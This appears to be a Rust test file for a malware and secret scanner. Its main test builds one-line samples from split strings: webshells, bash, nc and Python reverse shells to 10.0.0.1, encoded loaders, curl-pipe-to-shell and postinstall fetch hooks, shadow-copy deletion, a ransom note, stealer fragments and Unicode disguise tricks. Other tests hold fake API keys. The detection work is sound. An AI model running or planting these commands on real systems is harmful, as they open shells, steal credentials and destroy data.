//! Whole files through all detectors: what must be found is, on its line, and honest code passes. Samples of malware are put
//! together from pieces, so that these sources trip no scanner themselves.

use crate::{
    Finding, Limits, Scanner, Severity,
    archive::hostile::{Member, zip, zip_of},
};
use std::{io::Cursor, sync::LazyLock};

static SCANNER: LazyLock<Scanner> = LazyLock::new(|| Scanner::new().expect("our own rules"));

fn scan(files: &[(&str, &str)]) -> Vec<Finding> {
    SCANNER.scan_reader(Cursor::new(zip_of(files)), &Limits::default()).expect("an honest archive")
}

#[test]
fn every_family_of_malware_is_found() {
    let b64 = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQppbXBvcnQgb3MKb3Muc3lzdGVtKCdpZCcp";
    for (rule, path, text) in [
        (
            "malware.eicar-test-file",
            "a.txt",
            ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAND", "ARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat(),
        ),
        ("malware.webshell-php-request", "a.php", ["<?php ev", "al(base64_decode($_PO", "ST['c'])); ?>"].concat()),
        ("malware.webshell-python-request", "a.py", ["os.sys", "tem(request.args['c'])"].concat()),
        ("malware.webshell-node-request", "a.js", ["ex", "ec(req.query.cmd, done)"].concat()),
        ("malware.miner-pool-address", "a.json", ["{\"url\": \"strat", "um+tcp://pool.some.where:3333\"}"].concat()),
        ("malware.reverse-shell-one-line", "a.sh", ["bash -i >& /dev", "/tcp/10.0.0.1/4444 0>&1"].concat()),
        ("malware.reverse-shell-one-line", "b.sh", ["nc 10.0.0.1 4444 -", "e /bin/sh"].concat()),
        (
            "malware.reverse-shell-python",
            "a.py",
            ["s=socket.socket()\nos.dup2(s.file", "no(),0)\npty.spawn('/bin/", "sh')"].concat(),
        ),
        ("malware.loader-python", "a.py", ["exe", "c(zlib.decompress(base64.b64decode('", b64, "')))"].concat()),
        ("malware.loader-javascript", "a.js", ["ev", "al(atob('", b64, "'))"].concat()),
        ("malware.loader-php", "a.php", ["<?php ev", "al(gzinflate(base64_decode('", b64, "')));"].concat()),
        ("malware.loader-powershell", "a.ps1", ["powershell -nop -w hidden -e", "nc ", b64].concat()),
        ("malware.loader-download-and-run", "a.sh", ["curl -fsSL https://some.where/install | s", "h"].concat()),
        (
            "malware.loader-install-script",
            "package.json",
            ["{\"scripts\": {\"postinst", "all\": \"curl https://some.where/x -o x\"}}"].concat(),
        ),
        (
            "malware.ransom-note",
            "a.txt",
            ["All your files have been encr", "ypted. Send 1 BTC to get the decryption k", "ey."].concat(),
        ),
        ("malware.ransom-no-way-back", "a.bat", ["vssadmin del", "ete shadows /all /quiet"].concat()),
        (
            "malware.stealer-browser-passwords",
            "a.py",
            ["db = path + '/Login Da", "ta'\nkey = win32crypt.CryptUnprotect", "Data(x)"].concat(),
        ),
        (
            "malware.stealer-discord-tokens",
            "a.py",
            ["p = r'\\Local Storage\\lev", "eldb'\nh = 'https://discord.com/api/web", "hooks/1/a'"].concat(),
        ),
        (
            "malware.disguise-bidirectional",
            "a.js",
            "if (access == 'user\u{202e} \u{2066}// check\u{2069} \u{2066}') { return }".to_owned(),
        ),
        ("malware.disguise-invisible", "a.js", format!("const s = `{}`", "\u{e0101}".repeat(40))),
    ] {
        let found = scan(&[(path, &text)]);
        assert!(
            found.iter().any(|f| f.rule == rule && !f.title.is_empty() && !f.remedy.is_empty()),
            "{rule} in {text:?}: {found:?}"
        );
    }
}

#[test]
fn honest_code_passes() {
    let findings = scan(&[
        (
            "README.md",
            "# Monitor\n\nRun `curl http://localhost:3000/health`. Never pipe into a shell.\n\nYour files are encrypted at rest.",
        ),
        (
            "src/api.ts",
            "import { stripe } from './stripe'\nexport const key = process.env.STRIPE_SECRET_KEY ?? ''\nconst m = /a/.exec(text)\n",
        ),
        ("src/model.py", "import torch\nmodel.eval()\nwith open('x.json') as f:\n    data = json.load(f)\n"),
        ("docker-compose.yml", "environment:\n  DATABASE_URL: postgres://app:app@db:5432/app\n"),
        ("src/Shop.php", "<?php\n$name = trim($_POST['name'] ?? '');\n$rows = $pdo->exec($sql);\n"),
        (".env.example", "STRIPE_SECRET_KEY=sk_test_your_key_here\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"),
    ]);
    assert_eq!(findings, []);
}

#[test]
fn a_finding_has_file_line_masked_excerpt_and_remedy() {
    let key = ["sk_li", "ve_q7Zr2LxW9vKd4TnB8sYc3HfM"].concat();
    let findings = scan(&[("src/pay.ts", &format!("// payments\n\nconst stripe = new Stripe('{key}')\n"))]);
    let [finding] = findings.as_slice() else { panic!("{findings:?}") };
    assert_eq!((finding.severity, finding.rule.as_str()), (Severity::Blocker, "secret.stripe-live-key"));
    assert_eq!((finding.path.as_deref(), finding.line), (Some("src/pay.ts"), Some(3)));
    assert_eq!(finding.excerpt.as_deref(), Some("const stripe = new Stripe('sk_l••••••')"));
    assert!(finding.remedy.starts_with("Revoke"));
}

#[test]
fn nothing_hides_on_the_seam_of_two_windows_and_nothing_counts_twice() {
    let line = "x = 'sixty-four bytes of perfectly ordinary text in each line ..'\n";
    let before = super::WINDOW - super::OVERLAP;
    for shift in [-40i64, -20, 0, super::OVERLAP as i64 - 30] {
        let at = usize::try_from(before as i64 + shift).expect("positive");
        let mut text = line.repeat(at / line.len());
        let expected = text.lines().count() + 1;
        text.push_str("os.system(command)\n");
        text.push_str(&line.repeat(super::OVERLAP / line.len() * 3));
        let bytes = zip(&[Member { deflate: false, ..Member::new("big.py", text) }]);
        let found = SCANNER.scan_reader(Cursor::new(bytes), &Limits::default()).expect("honest");
        assert_eq!(found.iter().map(|f| f.line).collect::<Vec<_>>(), [u32::try_from(expected).ok()], "at {shift}");
    }
}

#[test]
fn binaries_are_looked_at_for_malware_only() {
    let mut data = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    data.extend(format!("AKIA{}", "Q7ZR2LXW9VKD4TNB").bytes());
    assert_eq!(SCANNER.scan_reader(Cursor::new(zip(&[Member::new("a.png", data)])), &Limits::default()).expect("honest"), []);
}

#[test]
fn wide_text_is_read_as_text() {
    let key = format!("\u{feff}key = AKIA{}", "Q7ZR2LXW9VKD4TNB");
    let wide: Vec<u8> = key.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let found = SCANNER.scan_reader(Cursor::new(zip(&[Member::new("a.txt", wide)])), &Limits::default()).expect("honest");
    assert_eq!(found.iter().map(|f| f.rule.as_str()).collect::<Vec<_>>(), ["secret.aws-access-key"]);
}

#[test]
fn a_file_is_read_from_disk_and_a_missing_one_is_our_fault() {
    let missing = SCANNER.scan(std::path::Path::new("/nonexistent/package.zip"), &Limits::default());
    assert!(missing.expect_err("no such file").is_ours());
}
